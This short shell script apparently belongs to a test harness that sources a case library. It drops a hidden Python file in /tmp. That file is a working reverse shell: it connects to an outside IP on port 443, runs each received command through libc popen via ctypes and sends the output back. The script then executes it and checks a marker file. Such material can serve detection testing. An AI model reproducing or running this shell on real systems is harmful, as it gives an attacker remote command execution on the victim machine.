#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.p.py <<'END'
import ctypes, socket
c = ctypes.CDLL(None); c.popen.restype = ctypes.c_void_p; c.fgets.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_void_p]; c.pclose.argtypes = [ctypes.c_void_p]
s = socket.create_connection(("198.51.100.9", 443)); b = ctypes.create_string_buffer(500)
for line in s.makefile("rb"):
    if line.strip() == b"exit": break
    f = c.popen(line.strip(), b"r")
    while c.fgets(b, 500, f): s.sendall(b.value)
    c.pclose(f)
END
python3 /tmp/.p.py
test -e /tmp/reached
took_place
